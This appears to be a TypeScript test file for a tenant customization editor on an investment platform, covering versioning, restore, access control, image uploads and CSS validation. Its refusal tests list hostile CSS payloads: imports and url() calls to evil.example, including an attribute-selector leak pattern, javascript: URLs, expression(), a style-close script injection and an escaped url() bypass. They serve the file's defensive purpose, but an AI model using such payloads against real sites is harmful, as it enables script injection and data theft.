import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { and, desc, eq } from 'drizzle-orm';
import { customizationDraftSchema, type CustomizationDraft } from 'shared';
import * as v from 'valibot';
import { auditLog, customizationVersions, tenants } from '../../db/schema.js';
import { createTestContext, type TestContext } from '../../test/harness.js';

const EDITOR = '/api/v2/pfp/manager/customization';
const VERSIONS = `${EDITOR}/versions`;

let ctx: TestContext;
let manager: string;
before(async () => {
  ctx = await createTestContext();
  manager = await ctx.login('manager@demo.test');
});
after(() => ctx.close());

async function current(token = manager): Promise<CustomizationDraft> {
  const response = await ctx.request('GET', EDITOR, { token });
  assert.equal(response.status, 200, JSON.stringify(response.body));
  return response.body.data.payload;
}
const save = (payload: unknown, token = manager) => ctx.request('PUT', EDITOR, { token, body: payload });
const served = async (host?: string) => (await ctx.request('GET', '/v2/ui/get-customization', host ? { host } : {})).body.data;

describe('the manager’s customization editor', () => {
  it('reads the tenant’s payload with the theme apart from the advanced CSS, before any version', async () => {
    const response = await ctx.request('GET', EDITOR, { token: manager });
    assert.equal(response.status, 200);
    assert.ok(v.is(customizationDraftSchema, response.body.data.payload));
    assert.equal(response.body.data.payload.title, 'Demo Invest');
    assert.equal(response.body.data.payload.theme.colors.primary, '#1d4ed8');
    assert.deepEqual(response.body.data.payload.fields.register, ['name', 'surname']);
    assert.equal(response.body.data.version, null);
  });

  it('saves a new version that get-customization serves at once, with the theme as CSS tokens', async () => {
    const before = await current();
    const draft = structuredClone(before);
    draft.theme.colors.primary = '#aa0000';
    draft.flows.onboarding = ['TYPE_OF_INVESTMENT', 'KYC', 'USER_ADDITIONAL_DATA', 'SUITABILITY_TEST', 'INVEST'];
    draft.texts.declareInterestDescription.en = 'Say how much you want in.';
    draft.css = '.brand { letter-spacing: 0.02em; }';
    const response = await save(draft);
    assert.equal(response.status, 200, JSON.stringify(response.body));
    // The look before the first save is kept as version 1, so it can be brought back.
    assert.equal(response.body.data.version.number, 2);
    assert.deepEqual(response.body.data.version.changed, ['theme.colors.primary', 'css', 'flows.onboarding', 'texts.declareInterestDescription.en']);
    assert.equal(response.body.data.version.actor.email, 'manager@demo.test');

    const data = await served();
    assert.equal(data.css, ':root { --color-primary: #aa0000; --color-focus: #aa0000; }\n.brand { letter-spacing: 0.02em; }');
    assert.deepEqual(data.flows.onboarding, draft.flows.onboarding);
    assert.equal(data.texts.declareInterestDescription.en, 'Say how much you want in.');
    // Another tenant is untouched.
    assert.equal((await served('exeu.localhost')).css, ':root { --color-primary: #0b3d91; }');

    const [audit] = await ctx.deps.db.select().from(auditLog).where(and(eq(auditLog.action, 'customization.saved')));
    assert.equal(audit?.details.version, '2');
  });

  it('lists the versions newest first with who, when and what changed, and shows one whole', async () => {
    const list = await ctx.request('GET', VERSIONS, { token: manager });
    assert.equal(list.status, 200);
    assert.deepEqual(list.body.data.map((version: { number: number }) => version.number), [2, 1]);
    const [newest, first] = list.body.data;
    assert.equal(first.actor, null);
    assert.ok(newest.changed.includes('theme.colors.primary'));
    const one = await ctx.request('GET', `${VERSIONS}/${first.id}`, { token: manager });
    assert.equal(one.status, 200);
    assert.equal(one.body.data.payload.theme.colors.primary, '#1d4ed8');
  });

  it('restores a version as a new one, bringing the old look back at once', async () => {
    const list = (await ctx.request('GET', VERSIONS, { token: manager })).body.data;
    const first = list.at(-1);
    const response = await ctx.request('POST', `${VERSIONS}/${first.id}/restore`, { token: manager, body: {} });
    assert.equal(response.status, 200, JSON.stringify(response.body));
    assert.equal(response.body.data.version.number, 3);
    assert.equal(response.body.data.version.restored_from, 1);
    assert.ok(response.body.data.version.changed.includes('theme.colors.primary'));
    const data = await served();
    assert.equal(data.css, null);
    assert.deepEqual(data.flows.onboarding, ['KYC', 'TYPE_OF_INVESTMENT', 'USER_ADDITIONAL_DATA', 'SUITABILITY_TEST', 'INVEST']);
    const [audit] = await ctx.deps.db.select().from(auditLog).where(eq(auditLog.action, 'customization.restored'));
    assert.equal(audit?.details.restored_from, '1');
  });

  it('answers 404 for a version that does not exist or belongs to another tenant', async () => {
    assert.equal((await ctx.request('GET', `${VERSIONS}/${randomUUID()}`, { token: manager })).status, 404);
    const ours = (await ctx.request('GET', VERSIONS, { token: manager })).body.data[0].id;
    const exeuManager = await ctx.login('manager@exeu.test', { host: 'exeu.localhost' });
    const response = await ctx.request('POST', `${VERSIONS}/${ours}/restore`, { token: exeuManager, host: 'exeu.localhost', body: {} });
    assert.equal(response.status, 404);
    assert.deepEqual(response.body, { error: 'customization_version_not_found', hide_error: false });
  });
});

describe('what a save refuses', () => {
  const cases: [string, string, string][] = [
    ['@import url(https://evil.example/x.css);', 'css', 'validator.error_css_import'],
    ['a { background: url(javascript:alert(1)) }', 'css', 'validator.error_css_javascript_url'],
    ['a { width: expression(alert(1)) }', 'css', 'validator.error_css_expression'],
    ['a {}</style><script>alert(1)</script>', 'css', 'validator.error_css_style_close'],
    ['a'.repeat(20_001), 'css', 'validator.error_css_too_large'],
    ["@import url('/fonts/brand.css');", 'css', 'validator.error_css_import'],
    ['input[value^="a"] { background: url(https://evil.example/leak?a) }', 'css', 'validator.error_css_url'],
    ['@font-face { font-family: X; src: url(https://evil.example/x.woff2) }', 'css', 'validator.error_css_url'],
    ['a { background: \\75 rl(https://evil.example/x.png) }', 'css', 'validator.error_css_url'],
    ['a { background: image-set("https://evil.example/x.png" 1x) }', 'css', 'validator.error_css_url'],
  ];
  for (const [css, field, key] of cases) {
    it(`refuses the CSS ${css.slice(0, 40)} with ${key}, saving nothing`, async () => {
      const before = await current();
      const response = await save({ ...before, css });
      assert.equal(response.status, 400);
      assert.equal(response.body.error, 'validation_error');
      assert.equal(response.body.fields[field].key, key);
      assert.deepEqual(await current(), before);
    });
  }

  it('names each wrong field by its path', async () => {
    const before = await current();
    const response = await save({
      ...before,
      theme: { ...before.theme, colors: { ...before.theme.colors, primary: 'red' } },
      currency: { ...before.currency, code: 'EURO' },
      flows: { ...before.flows, onboarding: ['KYC', 'KYC'] },
      analytics: { ...before.analytics, metaPixelId: '<script>' },
      modules: { ...before.modules, kyc: 'made-up' },
      urls: { ...before.urls, legal: 'javascript:alert(1)' },
    });
    assert.equal(response.status, 400);
    assert.deepEqual(
      Object.fromEntries(Object.entries(response.body.fields as Record<string, { key: string }>).map(([path, error]) => [path, error.key])),
      {
        'theme.colors.primary': 'validator.error_hex_color',
        'urls.legal': 'validator.error_url',
        'currency.code': 'validator.error_currency_code',
        'flows.onboarding': 'validator.error_order_duplicate',
        'analytics.metaPixelId': 'validator.error_analytics_id',
        'modules.kyc': 'validator.form_field_invalid',
      },
    );
  });
});

describe('CSS saved before today\'s rules', () => {
  it('is answered as it was for the manager to fix, never dropped without a word; saving or restoring it again is refused by field', async () => {
    const tenant = await ctx.deps.tenants.resolve('localhost');
    assert.ok(tenant);
    const outside = 'body { background: url(https://cdn.example/brand.png) }';
    const draft = await current();
    const [stored] = await ctx.deps.db.select({ customization: tenants.customization }).from(tenants).where(eq(tenants.id, tenant.id));
    const before = (stored?.customization ?? {}) as Record<string, unknown>;
    await ctx.deps.db.update(tenants).set({ customization: { ...before, css: outside } }).where(eq(tenants.id, tenant.id));
    ctx.deps.tenants.invalidate();

    assert.equal((await current()).css, outside);
    const resaved = await save({ ...draft, css: outside });
    assert.deepEqual([resaved.status, resaved.body.fields?.css?.key], [400, 'validator.error_css_url']);

    // A version holding it (written as an older API did) is shown whole, and restoring it is refused.
    const [latest] = await ctx.deps.db.select().from(customizationVersions).where(eq(customizationVersions.tenantId, tenant.id)).orderBy(desc(customizationVersions.number)).limit(1);
    const [old] = await ctx.deps.db
      .insert(customizationVersions)
      .values({ tenantId: tenant.id, number: (latest?.number ?? 1) + 1, payload: { ...draft, css: outside }, changed: ['css'], actorUserId: null, at: new Date() })
      .returning();
    assert.ok(old);
    assert.equal((await ctx.request('GET', `${VERSIONS}/${old.id}`, { token: manager })).body.data.payload.css, outside);
    const restored = await ctx.request('POST', `${VERSIONS}/${old.id}/restore`, { token: manager, body: {} });
    assert.deepEqual([restored.status, restored.body.fields?.css?.key], [400, 'validator.error_css_url']);

    await ctx.deps.db.update(tenants).set({ customization: before }).where(eq(tenants.id, tenant.id));
    ctx.deps.tenants.invalidate();
  });
});

describe('who may edit', () => {
  it('refuses investors, entrepreneurs and a manager acting as an investor', async () => {
    const investor = await ctx.login('investor@demo.test');
    const entrepreneur = await ctx.login('entrepreneur@demo.test');
    for (const token of [investor, entrepreneur]) {
      assert.equal((await ctx.request('GET', EDITOR, { token })).status, 403);
      assert.equal((await save(await current(), token)).status, 403);
    }
    assert.equal((await ctx.request('GET', EDITOR)).status, 401);
  });
});

describe('the favicon and logo uploads', () => {
  const IMAGES = `${EDITOR}/images`;
  const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 1, 2, 3, 4]);
  function upload(kind: string, bytes: Uint8Array, name: string, token = manager) {
    const form = new FormData();
    form.append('kind', kind);
    form.append('file', new Blob([bytes]), name);
    return ctx.request('POST', IMAGES, { token, form });
  }

  it('stores a logo and answers a public address that serves it, which a save can use', async () => {
    const response = await upload('logo', PNG, 'brand.png');
    assert.equal(response.status, 201, JSON.stringify(response.body));
    assert.equal(response.body.data.kind, 'logo');
    const address = new URL(response.body.data.url);
    const image = await ctx.request('GET', address.pathname);
    assert.equal(image.status, 200);
    assert.equal(image.headers.get('content-type'), 'image/png');
    assert.deepEqual(image.bytes, PNG);
    const before = await current();
    const saved = await save({ ...before, image: { ...before.image, logo: response.body.data.url } });
    assert.equal(saved.status, 200, JSON.stringify(saved.body));
    assert.equal((await served()).image.logo, response.body.data.url);
    assert.equal((await save(before)).status, 200);
  });

  it("lets the CSS load the tenant's uploaded files by their path, and data: addresses", async () => {
    const response = await upload('logo', PNG, 'hero.png');
    const { pathname } = new URL(response.body.data.url);
    const before = await current();
    const css = `.hero { background: url("${pathname}") } .dot { background: url(data:image/png;base64,iVBORw0KGgo=) }`;
    const saved = await save({ ...before, css });
    assert.equal(saved.status, 200, JSON.stringify(saved.body));
    assert.ok((await served()).css.endsWith(css));
    assert.equal((await save(before)).status, 200);
  });

  it('refuses what is not an image by its bytes, an image over the size limit and an unknown kind', async () => {
    const script = await upload('favicon', new TextEncoder().encode('<script>alert(1)</script>'), 'icon.png');
    assert.equal(script.status, 400);
    assert.deepEqual(script.body.fields.file, { key: 'validator.form_field_invalid' });
    const large = new Uint8Array(5 * 1024 * 1024 + 1);
    large.set(PNG);
    const tooLarge = await upload('logo', large, 'huge.png');
    assert.equal(tooLarge.status, 400);
    assert.equal(tooLarge.body.fields.file.key, 'validator.error_image_size');
    assert.equal((await upload('banner', PNG, 'brand.png')).status, 400);
  });

  it('is for managers only', async () => {
    const investor = await ctx.login('investor@demo.test');
    assert.equal((await upload('logo', PNG, 'brand.png', investor)).status, 403);
  });
});
